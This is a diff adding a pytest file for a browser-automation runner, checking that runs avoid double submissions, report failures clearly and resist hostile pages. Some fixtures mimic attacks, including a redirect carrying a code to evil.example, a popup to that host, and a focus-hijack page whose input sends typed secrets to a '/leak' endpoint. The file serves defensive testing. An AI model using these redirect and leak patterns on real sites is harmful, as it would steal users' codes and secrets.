@@ -1,0 +1,360 @@
+"""The promises of a run, each against pages that would break it."""
+
+from __future__ import annotations
+
+import threading
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+from sites import Played, Site, later
+from starlette.requests import Request
+from starlette.responses import HTMLResponse, RedirectResponse, Response
+
+Play = Callable[..., Played]
+
+FORM = """<title>Things</title><h1>Things</h1><ul id=list></ul>
+<form method=post action=/add><label>Name <input name=name></label><button>Add</button></form>"""
+
+
+def things(wait: float = 0.0, lose: bool = False) -> dict[str, object]:
+    """A page with a list that comes late, and a form that adds to it."""
+
+    def page(request: Request, site: Site) -> Response:
+        items = "".join(f"<li><a href=#>{name}</a></li>" for name in site.kept.get("names", []))
+        fill = f"document.getElementById('list').innerHTML = `{items}<li>end of list</li>`"
+        return HTMLResponse("<!doctype html>" + FORM + later(wait, fill))
+
+    def add(request: Request, site: Site) -> Response:
+        import anyio.from_thread
+
+        form = anyio.from_thread.run(request.form)
+        site.effect("add", name=str(form["name"]))
+        if not lose:
+            site.kept.setdefault("names", []).append(str(form["name"]))
+        return RedirectResponse("/", 303)
+
+    return {"/": page, "/add": add}
+
+
+ADD = """
+sections:
+  - title: Add the thing
+    open: shop /
+    ready: text "end of list"
+    done_when: link "Lamp"
+    steps:
+      - fill: textbox "Name"
+        with: Lamp
+      - click: button "Add"
+        commits: true
+"""
+
+
+def test_a_late_list_does_not_add_twice(play: Play) -> None:
+    site = Site(things(wait=1.2))  # type: ignore[arg-type]
+    assert play(site, ADD).statuses == ["done"]
+    assert play(site, ADD).statuses == ["already done"]
+    assert site.kept["names"] == ["Lamp"]
+
+
+def test_a_save_that_the_page_loses_is_seen_as_not_done(play: Play, monkeypatch: object) -> None:
+    played = play(things(lose=True), ADD.replace("ready:", "ready:"))
+    assert played.result.status == "failed", played.message
+    assert 'link "Lamp"' in played.message
+    assert played.site.count("POST", "/add") == 1
+
+
+def test_a_page_that_never_gets_ready_is_unknown_and_untouched(play: Play) -> None:
+    pages = {"/": "<title>Things</title><h1>Things</h1>" + FORM}
+    played = play(pages, ADD.replace("end of list", "never"))
+    assert played.result.exit == 4
+    assert played.statuses == ["unknown"]
+    assert played.site.count("POST", "/add") == 0
+
+
+def test_check_changes_nothing(play: Play) -> None:
+    played = play(things(), ADD, mode="check")
+    assert (played.statuses, played.result.exit) == (["to do"], 1)
+    assert played.site.count("POST", "/add") == 0
+    done = Site(things(), kept={"names": ["Lamp"]})  # type: ignore[arg-type]
+    assert play(done, ADD, mode="check").statuses == ["done"]
+
+
+def test_a_click_that_hydration_swallows_is_repeated(play: Play) -> None:
+    wake = "document.querySelector('button').onclick = () => document.body.insertAdjacentHTML('beforeend', '<p>Opened</p>')"
+    pages = {"/": "<title>A</title><button>Menu</button>" + later(1.5, wake)}
+    played = play(
+        pages,
+        """
+sections:
+  - title: Open it
+    open: shop /
+    steps:
+      - click: button "Menu"
+        expect: text "Opened"
+""",
+    )
+    assert played.statuses == ["done"], played.message
+
+
+def test_a_commit_is_never_clicked_twice(play: Play) -> None:
+    def hit(request: Request, site: Site) -> Response:
+        site.effect("hit")
+        return Response(status_code=204)
+
+    page = "<title>A</title><h1>A</h1><button onclick=\"fetch('/hit', {method: 'POST'})\">Go</button>"
+    played = play(
+        {"/": page, "/hit": hit},
+        """
+sections:
+  - title: Hit it
+    open: shop /
+    ready: heading "A"
+    every_time: nothing shows it
+    steps:
+      - click: button "Go"
+        commits: true
+        expect: text "Never shown"
+        timeout: 3s
+""",
+    )
+    assert played.result.status == "failed"
+    assert played.site.count("POST", "/hit") == 1
+
+
+def test_a_field_that_alters_what_was_filled_fails_and_shows_both(play: Play) -> None:
+    page = '<title>A</title><label>Slug <input oninput="this.value = this.value.slice(0, 5)"></label>'
+    played = play(
+        {"/": page},
+        """
+sections:
+  - title: Fill it
+    open: shop /
+    steps:
+      - fill: textbox "Slug"
+        with: a-long-slug
+""",
+    )
+    assert played.result.status == "failed"
+    assert "a-long-slug" in played.message and "“a-lon”" in played.message
+
+
+def test_a_forgotten_commit_fails_the_rehearsal(play: Play) -> None:
+    played = play(things(), ADD.replace("        commits: true\n", ""))
+    assert played.result.status == "failed"
+    assert "add at shop.example" in played.message
+    assert played.result.failure is not None and played.result.failure.nearest == ["commits: true"]
+
+
+def test_a_redirect_hop_to_a_foreign_host_gets_no_request(play: Play) -> None:
+    def hop(request: Request, site: Site) -> Response:
+        return RedirectResponse("https://evil.example/take?code=abc", 302)
+
+    played = play(
+        {"/": "<title>A</title><a href=/hop>Go</a>", "/hop": hop, "//evil.example/take": "taken"},
+        """
+sections:
+  - title: Follow it
+    open: shop /
+    steps:
+      - click: link "Go"
+      - expect: text "taken"
+""",
+        others=("https://evil.example",),
+    )
+    assert played.result.status == "failed"
+    assert "https://evil.example" in played.message
+    assert not [host for _, host, path in played.site.asked if host == "evil.example" and path == "/take"]
+    assert played.events("blocked")
+
+
+def test_a_popup_to_a_foreign_host_gets_no_request(play: Play) -> None:
+    page = "<title>A</title><button onclick=\"window.open('https://evil.example/take')\">Go</button>"
+    played = play(
+        {"/": page, "//evil.example/take": "taken"},
+        """
+sections:
+  - title: Follow it
+    open: shop /
+    steps:
+      - click: button "Go"
+      - expect: text "taken"
+""",
+        others=("https://evil.example",),
+    )
+    assert played.result.exit != 0
+    assert not [host for _, host, path in played.site.asked if host == "evil.example" and path == "/take"]
+    assert played.events("blocked")
+
+
+def test_a_popup_of_ours_becomes_the_page_until_it_closes(play: Play) -> None:
+    pages = {
+        "/": "<title>A</title><h1>Opener</h1><button onclick=\"window.open('/pop')\">Go</button>",
+        "/pop": '<title>B</title><h1>Popup</h1><button onclick="window.close()">Done</button>',
+    }
+    played = play(
+        pages,
+        """
+sections:
+  - title: Through it
+    open: shop /
+    steps:
+      - click: button "Go"
+        expect: heading "Popup"
+      - click: button "Done"
+        expect: heading "Opener"
+""",
+    )
+    assert played.statuses == ["done"], played.message
+
+
+def test_failing_helps_within_seconds(play: Play) -> None:
+    page = (
+        "<title>A</title><h1>Settings</h1><button>Save changes</button><button>Cancel</button><p role=alert>Not yet</p>"
+    )
+    begun = time.monotonic()
+    played = play(
+        {"/": page},
+        """
+sections:
+  - title: Save it
+    open: shop /
+    steps:
+      - click: button "Save"
+        follows: 2.3
+""",
+    )
+    assert time.monotonic() - begun < 20
+    failure = played.result.failure
+    assert failure is not None and played.result.exit == 1
+    assert failure.nearest[0] == 'button "Save changes"'
+    assert failure.page_says == ["Not yet"]
+    assert failure.candidates[0].box is not None
+    step = played.events("step")[-1]
+    assert (step["status"], step["follows"], step["line"]) == ("failed", "2.3", 11)
+    assert step["pictures"][-1]["shows"] == "failure"
+
+
+def test_more_than_one_match_is_an_error_that_lists_them(play: Play) -> None:
+    page = "<title>A</title><button>Save</button><button>Save</button>"
+    played = play({"/": page}, 'sections:\n  - title: S\n    open: shop /\n    steps:\n      - click: button "Save"\n')
+    assert "2 controls fit" in played.message
+    assert played.result.failure is not None
+    assert played.result.failure.nearest == ['button "Save" [nth=1]', 'button "Save" [nth=2]']
+
+
+def test_a_page_that_changes_for_a_while_is_waited_for(play: Play) -> None:
+    script = """<p id=n>0</p><script>
+    document.querySelector('button').onclick = () => { let n = 0; const step = () => {
+      document.getElementById('n').textContent = ++n; if (n < 30) setTimeout(step, 50); }; step(); };</script>"""
+    played = play(
+        {"/": "<title>A</title><button>Go</button>" + script},
+        """
+sections:
+  - title: Wait for it
+    open: shop /
+    steps:
+      - click: button "Go"
+      - read: css "#n"
+        into: n
+        timeout: 100ms
+""",
+    )
+    assert played.events("step")[-1]["read"] == {"n": "30"}
+
+
+def test_ctrl_c_closes_the_run_properly(play: Play) -> None:
+    event = threading.Event()
+    threading.Timer(4.0, event.set).start()
+    played = play(
+        {"/": "<title>A</title><h1>A</h1>"},
+        """
+sections:
+  - title: Wait
+    open: shop /
+    steps:
+      - expect: text "Never"
+        timeout: 60s
+""",
+        interrupt=event,
+    )
+    assert (played.result.status, played.result.exit) == ("interrupted", 130)
+    assert [event["event"] for event in played.events()][-1] == "end"
+    assert played.events("step")[-1]["pictures"]
+
+
+def test_a_signed_out_page_stops_without_a_window(play: Play) -> None:
+    book = """title: A test
+sites:
+  shop:
+    url: https://shop.example
+    stand_in: site
+    signed_out_when: link "Sign in"
+sections:
+  - title: Look
+    open: shop /
+    ready: heading "Inside"
+    steps:
+      - click: button "Go"
+"""
+    played = play({"/": "<title>A</title><a href=/in>Sign in</a>"}, book)
+    assert (played.result.status, played.result.exit) == ("stopped", 3)
+    assert "runwright run book --headed" in played.message
+
+
+def test_waiting_for_somebody_is_said(play: Play) -> None:
+    book = ADD.replace("    done_when", '    waits_when: text "Pending approval"\n    done_when')
+    played = play({"/": FORM + "<p>Pending approval</p>"}, book)
+    assert (played.statuses, played.result.exit) == (["waiting"], 3)
+    assert played.site.count("POST", "/add") == 0
+
+
+def test_a_failed_request_of_a_commit_stops_for_a_person(play: Play) -> None:
+    page = "<title>A</title><h1>A</h1><button onclick=\"fetch('/hit', {method: 'POST'})\">Go</button>"
+    played = play(
+        {"/": page, "/hit": lambda request, site: Response(status_code=500)},
+        """
+sections:
+  - title: Hit it
+    open: shop /
+    ready: heading "A"
+    done_when: text "Done"
+    steps:
+      - click: button "Go"
+        commits: true
+""",
+    )
+    assert (played.result.status, played.result.exit) == ("stopped", 3)
+    assert "answered 500" in played.message
+    assert played.site.count("POST", "/hit") == 1
+
+
+def test_a_page_that_navigates_between_look_and_typing_gets_no_secret(play: Play, tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text("hunter2-hunter2-hunter2")
+    elsewhere = """<title>B</title><label>Token <input oninput="fetch('/leak?' + this.value)"></label>"""
+    page = """<title>A</title><label>Token <input onfocus="location = 'https://other.example/'"></label>"""
+    book = """title: A test
+sites:
+  shop: { url: https://shop.example, stand_in: site }
+  other: { url: https://other.example, stand_in: site }
+secrets:
+  token: { about: The token, typed_at: shop, from: "file:%s" }
+sections:
+  - title: Type it
+    open: shop /
+    steps:
+      - click: textbox "Token"
+      - fill: textbox "Token"
+        with: ${token}
+""" % (tmp_path / "secret")
+    played = play({"/": page, "//other.example/": elsewhere}, book)
+    assert played.result.status == "failed"
+    assert "may be typed at https://shop.example, not at https://other.example" in played.message
+    assert not any("leak" in path for _, _, path in played.site.asked)
+    assert b"hunter2" not in played.everything()
+
+
+def test_an_empty_run_is_no_success(play: Play) -> None:
+    played = play({"/": "x"}, "sections:\n  - title: S\n    open: shop /\n    when: ${false}\n    steps: []\n")
+    assert played.result.exit != 0
